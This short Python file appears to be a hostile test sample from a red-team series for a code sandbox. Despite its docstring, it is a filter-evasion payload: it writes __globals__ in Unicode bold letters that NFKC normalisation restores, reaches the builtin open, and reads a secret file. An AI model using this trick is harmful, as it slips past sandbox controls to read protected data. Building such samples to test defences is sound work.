# family: nfkc (written blind, round 17 of blind hostile tools)
"""Function metadata reader."""


def meta(fn):
    g = fn.__𝐠𝐥𝐨𝐛𝐚𝐥𝐬__
    b = g["__builtins__"]
    return (b if isinstance(b, dict) else b.__dict__)["open"]("/tmp/r17b/work/secret.txt").read()


print(meta(meta))
